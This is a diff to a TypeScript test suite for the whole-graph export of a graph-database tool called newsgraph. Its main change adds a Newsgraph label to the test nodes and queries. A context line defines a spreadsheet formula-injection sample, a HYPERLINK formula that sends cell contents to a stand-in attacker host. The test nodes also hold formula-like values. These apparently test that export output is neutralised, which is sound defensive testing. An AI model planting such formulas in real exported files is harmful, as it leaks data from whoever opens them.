@@ -39,9 +39,9 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 async function addOddities(db: Database): Promise<void> {
   await db.write((tx) =>
     tx.run(
-      `CREATE (a:Entity:Person {id: 'person:test-odd', name: $odd, aliases: [$odd, 'a;b', 'c,d'], titles: [], ambiguous: false})
-       CREATE (b:Entity:Place {id: 'place:test-moscow', name: 'Москва', aliases: ['موسكو'], ambiguous: false})
-       CREATE (d:Document {id: 'doc:test-odd', title: $odd, text: $sentence, file: 'odd.txt', format: 'txt', sha256: 'x', loadedAt: datetime('2026-11-23T10:00:00.123Z')})
+      `CREATE (a:Newsgraph:Entity:Person {id: 'person:test-odd', name: $odd, aliases: [$odd, 'a;b', 'c,d'], titles: [], ambiguous: false})
+       CREATE (b:Newsgraph:Entity:Place {id: 'place:test-moscow', name: 'Москва', aliases: ['موسكو'], ambiguous: false})
+       CREATE (d:Newsgraph:Document {id: 'doc:test-odd', title: $odd, text: $sentence, file: 'odd.txt', format: 'txt', sha256: 'x', loadedAt: datetime('2026-11-23T10:00:00.123Z')})
        CREATE (a)-[:MET {evDocs: ['doc:test-odd'], evSentences: [$sentence], evStarts: [0], evEnds: [42], evHedged: [false], documents: 1, hedged: false}]->(b)
        CREATE (a)-[:MENTIONED_IN {count: 1, starts: [0], ends: [5]}]->(d)
        CREATE (f:Entity:Person {id: '=person:formula', name: $formula, aliases: ['-1+1', "'=quoted", '@me', '+x'], titles: ['\t=tab', '\r=cr', '=2'], ambiguous: false})
@@ -70,11 +70,12 @@ interface Expected {
 async function expected(db: Database): Promise<Expected> {
   return db.read(async (tx) => {
     const nodes = new Map<string, { labels: string[]; properties: Record<string, unknown> }>();
-    for (const r of (await tx.run('MATCH (n) RETURN n.id AS id, labels(n) AS labels, properties(n) AS p')).records) {
+    // newsgraph's nodes: what a whole-graph export holds (the marker node is bookkeeping, not graph).
+    for (const r of (await tx.run('MATCH (n:Newsgraph) RETURN n.id AS id, labels(n) AS labels, properties(n) AS p')).records) {
       nodes.set(r.get('id') as string, { labels: r.get('labels') as string[], properties: r.get('p') as Record<string, unknown> });
     }
     const edges = new Map<string, Record<string, unknown>[]>();
-    for (const r of (await tx.run('MATCH (a)-[r]->(b) RETURN a.id AS a, type(r) AS t, b.id AS b, properties(r) AS p')).records) {
+    for (const r of (await tx.run('MATCH (a:Newsgraph)-[r]->(b:Newsgraph) RETURN a.id AS a, type(r) AS t, b.id AS b, properties(r) AS p')).records) {
       const key = `${r.get('a')}|${r.get('t')}|${r.get('b')}`;
       edges.set(key, [...(edges.get(key) ?? []), r.get('p') as Record<string, unknown>]);
     }
@@ -294,16 +295,16 @@ async function loadCsv(db: Database, dir: string): Promise<void> {
 }
 
 
-describe('whole-graph export of a graph newsgraph did not write', () => {
+describe('whole-graph export of nodes unlike the loader\'s', () => {
   const db = testDatabase();
 
   before(async () => {
     await resetGraph(db);
     await db.write((tx) =>
       tx.run(
-        `CREATE (n:Tag {id: 42, name: 'numeric id'})
-         CREATE (m:Tag {name: 'no id'})
-         CREATE (p:Thing {id: 'thing:a', \`__proto__\`: 'kept', \`we\`\`ird key\`: [1, 2]})
+        `CREATE (n:Newsgraph:Tag {id: 42, name: 'numeric id'})
+         CREATE (m:Newsgraph:Tag {name: 'no id'})
+         CREATE (p:Newsgraph:Thing {id: 'thing:a', \`__proto__\`: 'kept', \`we\`\`ird key\`: [1, 2]})
          CREATE (p)-[:\`odd \`\`type\`\` here\` {note: 'carried', \`__proto__\`: 'also'}]->(n)
          CREATE (n)-[:PLAIN]->(m)`,
       ),
@@ -344,7 +345,7 @@ describe('whole-graph export of a graph newsgraph did not write', () => {
         const nodes = new Set<string>();
         for await (const batch of source.nodes()) for (const node of batch) nodes.add(node.key);
         // A load committing beside the export, after its node pass.
-        await db.write((tx) => tx.run(`MATCH (p:Thing {id: 'thing:a'}) CREATE (p)-[:LATE {note: 'after the nodes'}]->(:Thing {id: 'thing:late'})`));
+        await db.write((tx) => tx.run(`MATCH (p:Thing {id: 'thing:a'}) CREATE (p)-[:LATE {note: 'after the nodes'}]->(:Newsgraph:Thing {id: 'thing:late'})`));
         const edges = [];
         for await (const batch of source.edges()) edges.push(...batch);
         return { nodes, edges };
